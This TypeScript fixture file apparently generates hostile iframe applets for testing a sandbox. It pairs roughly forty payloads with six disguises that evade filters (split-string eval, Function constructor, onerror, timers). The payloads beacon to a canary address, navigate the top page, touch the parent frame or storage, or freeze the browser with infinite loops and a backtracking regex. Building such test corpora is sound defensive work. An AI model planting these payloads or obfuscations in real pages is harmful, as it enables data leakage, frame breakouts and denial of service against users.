// Hostile applets: what each reaches for, in each disguise.
export type Harm = 'network' | 'storage' | 'parent' | 'navigation' | 'cpu';

export type Hostile = {
  readonly id: string;
  readonly harm: Harm;
  readonly html: string;
  /** Takes the whole page along where nothing holds it. */
  readonly alone: boolean;
};

/** `U`: an address of the canary's that names the applet. What was got hold of in the frame itself is told by `self.loot`. */
type Payload = readonly [name: string, harm: Harm, code: string, alone?: boolean];

const link = (rel: string, more = ''): string =>
  `const l=document.createElement('link');l.rel='${rel}';${more}l.href=U;document.head.append(l)`;
const element = (name: string, attribute: string): string =>
  `const e=document.createElement('${name}');e.${attribute}=U;document.body.append(e)`;

export const PAYLOADS: readonly Payload[] = [
  ['fetch', 'network', 'fetch(U,{mode:"no-cors"}).catch(()=>0)'],
  [
    'fetch-keepalive',
    'network',
    'fetch(U,{mode:"no-cors",method:"POST",body:"x",keepalive:true}).catch(()=>0)',
  ],
  ['xhr', 'network', 'const x=new XMLHttpRequest();x.open("GET",U);x.send()'],
  ['beacon', 'network', 'navigator.sendBeacon(U,"x")'],
  ['socket', 'network', 'new WebSocket(U.replace("http","ws"))'],
  ['events', 'network', 'new EventSource(U)'],
  ['image', 'network', 'new Image().src=U'],
  ['picture-set', 'network', element('img', 'srcset')],
  ['script', 'network', element('script', 'src')],
  ['style-link', 'network', link('stylesheet')],
  ['preload', 'network', link('preload', "l.as='image';")],
  ['prefetch', 'network', link('prefetch')],
  ['preconnect', 'network', link('preconnect')],
  ['module-preload', 'network', link('modulepreload')],
  [
    'icon-import',
    'network',
    'const s=document.createElement("style");s.textContent="@import url("+U+")";document.head.append(s)',
  ],
  ['background', 'network', 'document.body.style.background="url("+U+")"'],
  ['font', 'network', 'new FontFace("x","url("+U+")").load().catch(()=>0)'],
  ['video', 'network', element('video', 'src')],
  ['audio', 'network', 'new Audio(U).load()'],
  ['object', 'network', element('object', 'data')],
  ['embed', 'network', element('embed', 'src')],
  [
    'svg-image',
    'network',
    'document.body.insertAdjacentHTML("beforeend","<svg><image href=\\""+U+"\\"/></svg>")',
  ],
  ['frame', 'network', element('iframe', 'src')],
  [
    'worker',
    'network',
    'new Worker(self.URL.createObjectURL(new Blob(["fetch(\\""+U+"\\",{mode:\\"no-cors\\"})"])))',
  ],
  [
    'webrtc',
    'network',
    'const p=new RTCPeerConnection({iceServers:[{urls:"turn:"+new self.URL(U).host+"?transport=tcp",username:ID,credential:"c"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))',
  ],
  [
    'form',
    'navigation',
    'const f=document.createElement("form");f.action=U;document.body.append(f);f.submit()',
  ],
  ['location', 'navigation', 'location.href=U'],
  [
    'link-click',
    'navigation',
    'const a=document.createElement("a");a.href=U;document.body.append(a);a.click()',
  ],
  [
    'refresh',
    'navigation',
    'const m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url="+U;document.head.append(m)',
  ],
  ['popup', 'navigation', 'self.open(U)'],
  ['top', 'navigation', 'top.location=U', true],
  ['parent-frame', 'parent', 'parent.document.title="loot-"+ID;self.loot=1'],
  ['parent-read', 'parent', 'if(parent.document.body.textContent!==undefined)self.loot=1'],
  ['local-storage', 'storage', 'localStorage.setItem(ID,"1");if(localStorage.getItem(ID)==="1")self.loot=1'],
  [
    'session-storage',
    'storage',
    'sessionStorage.setItem(ID,"1");if(sessionStorage.getItem(ID)==="1")self.loot=1',
  ],
  ['cookie', 'storage', 'document.cookie=ID+"=1";if(document.cookie.includes(ID))self.loot=1'],
  ['indexed-db', 'storage', 'indexedDB.open(ID).onsuccess=()=>{self.loot=1}'],
  ['caches', 'storage', 'caches.open(ID).then(()=>{self.loot=1})'],
  [
    'channel',
    'storage',
    'const b=new BroadcastChannel("spy");b.onmessage=e=>{if(e.data!==ID)self.loot=1};b.postMessage(ID)',
  ],
];

/** In each of them the code runs in a bare frame. */
const quoted = (code: string): string => JSON.stringify(code).replaceAll('</', '<\\/');
const DISGUISES: readonly (readonly [name: string, (code: string) => string])[] = [
  ['plain', (code) => `<script>try{${code}}catch{}</script>`],
  ['eval', (code) => `<script>try{(0,self['ev'+'al'])(${quoted(code)})}catch{}</script>`],
  [
    'constructor',
    (code) => `<script>try{[]['fil'+'ter']['constr'+'uctor'](${quoted(code)})()}catch{}</script>`,
  ],
  [
    'attribute',
    (code) =>
      `<img src="data:," alt="" onerror="try{${code.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}}catch{}">`,
  ],
  [
    'inserted',
    (code) =>
      `<script>const s=document.createElement('scr'+'ipt');s.textContent=${quoted(`try{${code}}catch{}`)};document.body.append(s)</script>`,
  ],
  ['timer', (code) => `<script>setTimeout(${quoted(`try{${code}}catch{}`)},1)</script>`],
];

export const hostileApplets = (addressOf: (id: string) => string): readonly Hostile[] =>
  PAYLOADS.flatMap(([name, harm, code, alone = false]) =>
    DISGUISES.map(([disguise, wrap]): Hostile => {
      const id = `${name}-${disguise}`;
      const whole = code.replaceAll(/\bID\b/gu, `'${id}'`).replaceAll(/\bU\b/gu, `'${addressOf(id)}'`);
      return {
        id,
        harm,
        alone,
        html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${id}</title></head><body><p>${id}</p>${wrap(whole)}</body></html>`,
      };
    }),
  );
const page = (id: string, script: string): Hostile => ({
  id,
  harm: 'cpu',
  alone: true,
  html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${id}</title></head><body><p>${id}</p><script>${script}</script></body></html>`,
});

/** Held by nothing but whoever watches. */
export const FREEZING: readonly Hostile[] = [
  page('loop', 'for(;;);'),
  page('loop-later', 'setTimeout(()=>{for(;;);},100)'),
  page('pattern', '/^(a+)+$/.test("a".repeat(40)+"b")'),
  page('flood', 'for(;;)parent.postMessage({width:1,height:1},"*")'),
  page(
    'tasks',
    'const c=new MessageChannel();c.port1.onmessage=()=>{const e=performance.now()+5;while(performance.now()<e);c.port2.postMessage(0)};c.port2.postMessage(0)',
  ),
];
